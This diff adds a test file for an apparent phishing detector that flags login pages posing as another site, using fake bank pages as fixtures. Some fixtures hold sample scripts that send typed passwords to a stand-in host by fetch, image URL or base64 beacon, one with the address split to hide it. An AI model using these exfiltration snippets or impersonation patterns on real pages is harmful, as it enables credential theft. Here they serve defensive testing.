@@ -1,0 +1,146 @@
+import { describe, expect, test } from 'bun:test'
+import { foreignIdentityCheck } from '../../../../src/trust/checks/credentials/foreign-identity.ts'
+import { grade } from '../../../../src/trust/grade.ts'
+import { captureOf } from '../../captures.ts'
+import { rules } from '../page-subject.ts'
+
+const PASSWORD = '<form method=post action="/next"><input name=u><input type=password name=p></form>'
+const at = (body: string, url = 'https://qwertz.example/login') => rules(foreignIdentityCheck, body, { url })
+
+const CANONICAL = '<link rel=canonical href="https://my.nordhavn-bank.example/">'
+const ICON = '<link rel=icon href="https://nordhavn-bank.example/favicon.ico">'
+const TITLE = '<title>Nordhavn Bank</title>'
+const COPYRIGHT = '<p>© 2026 Nordhavn Bank A/S</p>'
+const LOGO = '<img src="https://nordhavn-bank.example/logo.svg" alt="Nordhavn Bank">'
+
+describe('a page for a password that no list knows', () => {
+  test.each([
+    ['has the canonical address, icon and name of another site', CANONICAL + ICON + TITLE],
+    [
+      'has the og:url, names and address of another site',
+      `<meta property=og:url content="https://nordhavn-bank.example/">${TITLE}${COPYRIGHT}<p>nordhavn-bank.example</p>`,
+    ],
+    [
+      'has the canonical address of another site and links to it',
+      `${CANONICAL}${COPYRIGHT}<a href="https://nordhavn-bank.example/a">A</a><a href="https://nordhavn-bank.example/b">B</a>`,
+    ],
+  ])('%s: it gives itself out as that site', (_, head) => {
+    expect(at(head + PASSWORD)).toEqual(['content.foreign_identity'])
+  })
+
+  test('has the icon, picture and name of another site: that is a weak sign', () => {
+    expect(at(TITLE + ICON + LOGO + PASSWORD)).toEqual(['content.foreign_names'])
+  })
+
+  test.each([
+    ['says so without asking', CANONICAL + ICON + TITLE, 'https://qwertz.example/login'],
+    ['is on the site itself', CANONICAL + ICON + TITLE + PASSWORD, 'https://login.nordhavn-bank.example/'],
+    [
+      'is on the same name in another country',
+      CANONICAL + ICON + TITLE + PASSWORD,
+      'https://nordhavn-bank.test/',
+    ],
+    [
+      'is on a longer name of the same company',
+      CANONICAL + ICON + TITLE + PASSWORD,
+      'https://nordhavn-bank-privat.example/',
+    ],
+    [
+      'sends the password to that site',
+      CANONICAL + ICON + TITLE + PASSWORD.replace('/next', 'https://nordhavn-bank.example/in'),
+      'https://qwertz.example/login',
+    ],
+    [
+      'is a dealer that names itself',
+      `<title>Tømrer Hansen</title>${ICON}${LOGO}<p>© 2026 Tomrerhansen</p>${PASSWORD}`,
+      'https://tomrerhansen.example/login',
+    ],
+    [
+      'links to the maker of its software',
+      `<title>Login</title><p>Powered by <a href="https://nordhavn-bank.example/">Nordhavn</a></p>${PASSWORD}`,
+      'https://intranet.example/',
+    ],
+    [
+      'has the canonical address of its own domain, on a platform',
+      `<link rel=canonical href="https://birkelund.example/">${TITLE}${PASSWORD}`,
+      'https://birkelund.vercel.app/login',
+    ],
+    [
+      'has the addresses of one owner',
+      `<link rel=canonical href="https://www.office.com/"><link rel=icon href="https://www.office.com/i.ico"><title>Office</title>${PASSWORD}`,
+      'https://login.live.com/',
+    ],
+    [
+      'leads to an identity provider',
+      `<link rel=canonical href="https://example.okta.com/"><title>Okta</title>${PASSWORD}`,
+      'https://qwertz.example/login',
+    ],
+  ])('%s: nothing is found', (_, body, url) => {
+    expect(at(body, url)).toEqual([])
+  })
+
+  test('lets the page of a word that frauds add be no other company', () => {
+    expect(at(CANONICAL + ICON + TITLE + PASSWORD, 'https://nordhavn-bank-login.example/')).toEqual([
+      'content.foreign_identity',
+    ])
+  })
+})
+
+describe('what a person presses', () => {
+  const page = (code: string, names = TITLE) =>
+    `${names}<form onsubmit="return false"><input name=u><input type=password name=pw><button id=b>Log in</button></form>
+<script>document.getElementById('b').addEventListener('click', function () { ${code} })</script>`
+  const signals = (body: string) => grade(captureOf('https://qwertz.example/', { body })).signals
+  const ids = (body: string) => signals(body).map(({ id }) => id)
+  const SENT = "fetch('https://take.example.net/in', {method: 'POST', body: JSON.stringify({pw: ''})})"
+
+  test('sends the password to another site, and then leads to the site that the page names', () => {
+    const found = signals(
+      page(
+        `${SENT}.then(function () { location.href = 'https://nordhavn-bank.example/' })`,
+        TITLE + COPYRIGHT + LOGO,
+      ),
+    )
+    expect(found.map(({ id }) => id)).toEqual(
+      expect.arrayContaining([
+        'content.foreign_identity',
+        'content.collect_and_leave',
+        'content.form_cross_site',
+      ]),
+    )
+    const left = found.find(({ id }) => id === 'content.collect_and_leave')
+    expect(left?.evidence).toMatchObject({ at: 'act[1]', seen: 'https://nordhavn-bank.example/' })
+  })
+
+  test.each([
+    ['in the body of a request', SENT, 'act[0]'],
+    ['in the address of a picture', "new Image().src = 'https://take.example.net/p?pw='", 'act[0]'],
+    [
+      'in base64',
+      "navigator.sendBeacon('https://take.example.net/', btoa(JSON.stringify({u: '', pw: ''})))",
+      'act[0]',
+    ],
+  ])('sends the password to another site %s', (_, code, place) => {
+    const hidden = code.replace(
+      'https://take.example.net',
+      "' + ['https:/', 'take.example.net'].join('/') + '",
+    )
+    const sent = signals(page(hidden)).find(({ id }) => id === 'content.form_cross_site')
+    expect(sent?.evidence.at).toBe(place)
+  })
+
+  test.each([
+    [
+      'counts the press on another site',
+      "fetch('https://count.example.net/', {method: 'POST', body: 'event=press'})",
+    ],
+    ['sends the password to its own site', "fetch('/in', {method: 'POST', body: 'pw='})"],
+    [
+      'sends and leads to its own account page',
+      "fetch('/in', {method: 'POST', body: 'pw='}).then(function () { location = '/account' })",
+    ],
+  ])('%s: nothing is found', (_, code) => {
+    expect(ids(page(code))).not.toContain('content.form_cross_site')
+    expect(ids(page(code))).not.toContain('content.collect_and_leave')
+  })
+})
